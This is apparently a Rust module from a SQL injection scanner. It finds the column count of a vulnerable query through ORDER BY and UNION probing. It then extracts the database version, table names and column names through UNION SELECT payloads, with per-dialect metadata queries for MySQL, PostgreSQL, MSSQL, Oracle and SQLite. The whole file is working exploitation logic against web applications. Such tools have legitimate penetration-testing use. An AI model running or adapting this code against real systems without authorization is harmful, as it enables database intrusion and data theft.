//! UNION-based column counting and metadata extraction

use super::mutation::build_full_payload;
use super::payloads::PayloadCategory;
use super::sql_errors::contains_sql_error;
use super::{ProbeKind, ScanContext};
use crate::events::LogLevel;
use crate::models::{AttackSurface, Dbms, ExploitInfo};
use regex::Regex;
use std::sync::LazyLock;
use tracing::debug;

/// Errors raised when `ORDER BY n` exceeds the column count
static ORDINAL_ERRORS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?i)unknown column '\d+' in 'order clause'",
        r"(?i)order by position \d+ is not in select list",
        r"(?i)order by position number \d+ is out of range",
        r"(?i)ora-01785",
        r"(?i)order by term out of range",
        r"(?i)order by.{0,80}(out of range|ordinal)",
    ]
    .iter()
    .filter_map(|p| Regex::new(p).ok())
    .collect()
});

/// Errors raised when the two sides of a UNION differ in column count
static COLUMN_MISMATCH: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?i)different number of columns",
        r"(?i)must have the same number of columns",
        r"(?i)must have an equal number of expressions",
        r"(?i)ora-01789",
        r"(?i)do not have the same number of result columns",
    ]
    .iter()
    .filter_map(|p| Regex::new(p).ok())
    .collect()
});

static VERSION_LIKE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(\d{1,2}(\.\d{1,2}){1,4}(\.\d{1,4})?)").expect("version regex"));

static MARKED_VALUE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?s)~!@(.*?)@!~").expect("marker regex"));

static HTML_TAG: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"<[^>]*>").expect("tag regex"));

const MAX_TABLES: usize = 20;

/// Per-DBMS SQL used to pull metadata through a UNION column
#[derive(Debug)]
pub struct UnionDialect {
    pub dbms: Dbms,
    /// Placeholder for unused columns
    pub filler: &'static str,
    /// Appended after the select list (Oracle needs a FROM clause)
    pub from_suffix: &'static str,
    pub version_expr: &'static str,
    pub tables_query: &'static str,
    /// `{table}` is replaced by the table name
    pub columns_query: &'static str,
    pub concat: Concat,
}

/// String concatenation style
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Concat {
    /// `CONCAT(a,b)`
    Function,
    /// `a||b`
    Pipes,
    /// `a+b`
    Plus,
}

pub const UNION_DIALECTS: &[UnionDialect] = &[
    UnionDialect {
        dbms: Dbms::MySql,
        filler: "NULL",
        from_suffix: "",
        version_expr: "@@version",
        tables_query: "SELECT GROUP_CONCAT(table_name SEPARATOR ',') FROM information_schema.tables WHERE table_schema=DATABASE()",
        columns_query: "SELECT GROUP_CONCAT(column_name SEPARATOR ',') FROM information_schema.columns WHERE table_schema=DATABASE() AND table_name='{table}'",
        concat: Concat::Function,
    },
    UnionDialect {
        dbms: Dbms::PostgreSql,
        filler: "NULL",
        from_suffix: "",
        version_expr: "version()",
        tables_query: "SELECT string_agg(table_name,',') FROM information_schema.tables WHERE table_schema='public'",
        columns_query: "SELECT string_agg(column_name,',') FROM information_schema.columns WHERE table_name='{table}'",
        concat: Concat::Pipes,
    },
    UnionDialect {
        dbms: Dbms::MsSql,
        filler: "CAST(NULL AS VARCHAR(100))",
        from_suffix: "",
        version_expr: "@@VERSION",
        tables_query: "SELECT STRING_AGG(name,',') FROM sys.tables",
        columns_query: "SELECT STRING_AGG(name,',') FROM sys.columns WHERE object_id=OBJECT_ID('{table}')",
        concat: Concat::Plus,
    },
    UnionDialect {
        dbms: Dbms::Oracle,
        filler: "TO_CHAR(NULL)",
        from_suffix: " FROM DUAL",
        version_expr: "(SELECT banner FROM v$version WHERE ROWNUM=1)",
        tables_query: "SELECT LISTAGG(table_name,',') WITHIN GROUP (ORDER BY table_name) FROM user_tables",
        columns_query: "SELECT LISTAGG(column_name,',') WITHIN GROUP (ORDER BY column_name) FROM user_tab_columns WHERE table_name='{table}'",
        concat: Concat::Pipes,
    },
    UnionDialect {
        dbms: Dbms::Sqlite,
        filler: "NULL",
        from_suffix: "",
        version_expr: "sqlite_version()",
        tables_query: "SELECT group_concat(name,',') FROM sqlite_master WHERE type='table'",
        columns_query: "SELECT group_concat(name,',') FROM pragma_table_info('{table}')",
        concat: Concat::Pipes,
    },
];

pub fn dialect_for(dbms: Dbms) -> Option<&'static UnionDialect> {
    UNION_DIALECTS.iter().find(|d| d.dbms == dbms)
}

/// Whether `body` carries an out-of-range ORDER BY ordinal error
pub fn is_ordinal_error(body: &str) -> bool {
    ORDINAL_ERRORS.iter().any(|re| re.is_match(body))
}

/// Whether `body` says the UNION select lists do not line up
pub fn is_column_mismatch(body: &str) -> bool {
    COLUMN_MISMATCH.iter().any(|re| re.is_match(body))
}

/// Number of items in the select list of a `UNION [ALL] SELECT ...` payload
pub fn union_payload_columns(payload: &str) -> Option<usize> {
    let upper = payload.to_ascii_uppercase();
    let union_at = upper.find("UNION")?;
    let select_at = union_at + upper[union_at..].find("SELECT")? + "SELECT".len();
    let mut list = &payload[select_at..];
    let upper_list = &upper[select_at..];
    for end in [" FROM ", "--", "#"] {
        if let Some(at) = upper_list.find(end) {
            list = &list[..at.min(list.len())];
        }
    }
    let list = list.trim();
    if list.is_empty() {
        return None;
    }

    let mut depth = 0i32;
    let mut in_quote = false;
    let mut items = 1;
    for c in list.chars() {
        match c {
            '\'' => in_quote = !in_quote,
            '(' if !in_quote => depth += 1,
            ')' if !in_quote => depth -= 1,
            ',' if !in_quote && depth == 0 => items += 1,
            _ => {}
        }
    }
    Some(items)
}

/// `UNION SELECT` clause of `columns` columns with `value` placed at `position`
pub fn union_select(columns: usize, value: Option<(usize, &str)>, dbms: Dbms) -> String {
    let (filler, suffix) = match dialect_for(dbms) {
        Some(d) => (d.filler, d.from_suffix),
        None => ("NULL", ""),
    };
    let parts: Vec<&str> = (0..columns)
        .map(|i| match value {
            Some((pos, v)) if pos == i => v,
            _ => filler,
        })
        .collect();
    format!("UNION SELECT {}{suffix}", parts.join(","))
}

/// Wraps `expr` in the extraction markers. The markers are split so a page that
/// echoes the payload does not produce a false match.
pub fn marked(expr: &str, concat: Concat) -> String {
    match concat {
        Concat::Function => format!("CONCAT('~!','@',({expr}),'@!','~')"),
        Concat::Pipes => format!("'~!'||'@'||({expr})||'@!'||'~'"),
        Concat::Plus => format!("'~!'+'@'+({expr})+'@!'+'~'"),
    }
}

pub fn extract_marked(body: &str) -> Option<String> {
    MARKED_VALUE
        .captures(body)
        .and_then(|caps| caps.get(1))
        .map(|m| m.as_str().trim().to_string())
        .filter(|v| !v.is_empty())
}

/// First version-like token in `body`, else a short clean text snippet
pub fn guess_version(body: &str) -> Option<String> {
    if let Some(m) = VERSION_LIKE.find(body) {
        return Some(m.as_str().to_string());
    }
    if body.is_empty() || body.len() >= 1000 {
        return None;
    }
    let text = HTML_TAG.replace_all(body, " ");
    let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let lower = text.to_ascii_lowercase();
    if !text.is_empty() && text.len() < 150 && !lower.contains("error") && !lower.contains("not found") {
        Some(text.chars().take(100).collect())
    } else {
        None
    }
}

/// Value prefix that makes the original query return no rows before the UNION
fn union_prefix(prefix: &str) -> String {
    let prefix = prefix.trim();
    if matches!(prefix, "'" | "\"" | "`") {
        prefix.to_string()
    } else if prefix.parse::<f64>().is_ok() {
        format!("{prefix} AND 1=2")
    } else {
        format!("{prefix}' AND 1=2")
    }
}

/// Finds the column count by raising `ORDER BY n` until the DBMS rejects the
/// ordinal. `None` means inconclusive: UNION must not be attempted.
pub async fn determine_column_count(
    ctx: &ScanContext,
    surface: &AttackSurface,
    param: &str,
    prefix: &str,
    dbms: Dbms,
) -> Option<usize> {
    let max_columns = ctx.options.tuning.max_union_columns;

    for n in 1..=max_columns {
        if ctx.prober.is_stopped() {
            return None;
        }
        let payload = build_full_payload(prefix, &format!("ORDER BY {n}"), dbms);
        match ctx.prober.send(surface, param, &payload, ProbeKind::ColumnCount).await {
            Ok(resp) if is_ordinal_error(&resp.body) => {
                debug!("ORDER BY {n} rejected for {param}");
                return (n > 1).then_some(n - 1);
            }
            Ok(_) => {}
            Err(e) => {
                ctx.prober.log(
                    LogLevel::Debug,
                    &format!("Column count probe {n} for '{param}' failed: {e}"),
                );
            }
        }
    }
    ctx.prober.log(
        LogLevel::Warn,
        &format!("No ORDER BY ordinal error within {max_columns} columns for '{param}'"),
    );
    column_count_from_union_payloads(ctx, surface, param, prefix, dbms).await
}

/// Sends the union payload set, narrowest select list first. A select list is
/// accepted only after a narrower one was rejected, which shows the backend
/// really evaluates the UNION.
async fn column_count_from_union_payloads(
    ctx: &ScanContext,
    surface: &AttackSurface,
    param: &str,
    prefix: &str,
    dbms: Dbms,
) -> Option<usize> {
    let max_columns = ctx.options.tuning.max_union_columns;
    let mut candidates: Vec<(usize, &str)> = ctx
        .payloads
        .get(PayloadCategory::Union)
        .iter()
        .filter_map(|p| union_payload_columns(p).map(|n| (n, p.as_str())))
        .filter(|(n, _)| *n <= max_columns)
        .collect();
    candidates.sort_by_key(|(n, _)| *n);

    let value_prefix = union_prefix(prefix);
    let mut rejected = false;
    for (columns, core) in candidates {
        if ctx.prober.is_stopped() {
            return None;
        }
        let payload = build_full_payload(&value_prefix, core, dbms);
        let resp = match ctx.prober.send(surface, param, &payload, ProbeKind::ColumnCount).await {
            Ok(resp) => resp,
            Err(e) => {
                debug!("Union payload {core:?} for {param} failed: {e}");
                continue;
            }
        };
        if resp.status >= 500 || is_column_mismatch(&resp.body) || contains_sql_error(&resp.body) {
            rejected = true;
        } else if rejected {
            ctx.prober.log(
                LogLevel::Debug,
                &format!("Union payload {core:?} accepted for '{param}': {columns} columns"),
            );
            return Some(columns);
        } else {
            debug!("Union payload {core:?} accepted without a prior rejection; inconclusive");
            return None;
        }
    }
    None
}

/// Pulls the version, table names and the first table's columns through a UNION
/// of `columns` columns. Best effort: every step may come back empty.
pub async fn extract(
    ctx: &ScanContext,
    surface: &AttackSurface,
    param: &str,
    prefix: &str,
    dbms: Dbms,
    columns: usize,
) -> ExploitInfo {
    let mut info = ExploitInfo::default();
    let Some(dialect) = dialect_for(dbms) else {
        debug!("No UNION dialect for {dbms}");
        return info;
    };
    if columns == 0 {
        return info;
    }
    let value_prefix = union_prefix(prefix);

    let send_union = |position: usize, expr: String| {
        let payload = build_full_payload(
            &value_prefix,
            &union_select(columns, Some((position, expr.as_str())), dbms),
            dbms,
        );
        async move {
            ctx.prober
                .send(surface, param, &payload, ProbeKind::Union)
                .await
        }
    };

    let mut reflected_at = None;
    let mut first_body = None;
    for position in 0..columns {
        if ctx.prober.is_stopped() {
            return info;
        }
        match send_union(position, marked(dialect.version_expr, dialect.concat)).await {
            Ok(resp) => {
                if let Some(version) = extract_marked(&resp.body) {
                    info.version = Some(version);
                    reflected_at = Some(position);
                    break;
                }
                first_body.get_or_insert(resp.body);
            }
            Err(e) => debug!("UNION version probe at column {position} failed: {e}"),
        }
    }

    let Some(position) = reflected_at else {
        info.version = first_body.as_deref().and_then(guess_version);
        return info;
    };

    if let Ok(resp) = send_union(position, marked(dialect.tables_query, dialect.concat)).await {
        if let Some(list) = extract_marked(&resp.body) {
            info.tables = list
                .split(',')
                .map(|t| t.trim().to_string())
                .filter(|t| !t.is_empty())
                .take(MAX_TABLES)
                .collect();
        }
    }

    if let Some(table) = info.tables.first().cloned() {
        let query = dialect.columns_query.replace("{table}", &table.replace('\'', "''"));
        if let Ok(resp) = send_union(position, marked(&query, dialect.concat)).await {
            if let Some(list) = extract_marked(&resp.body) {
                let cols: Vec<String> = list
                    .split(',')
                    .map(|c| c.trim().to_string())
                    .filter(|c| !c.is_empty())
                    .collect();
                if !cols.is_empty() {
                    info.columns.insert(table, cols);
                }
            }
        }
    }
    info
}
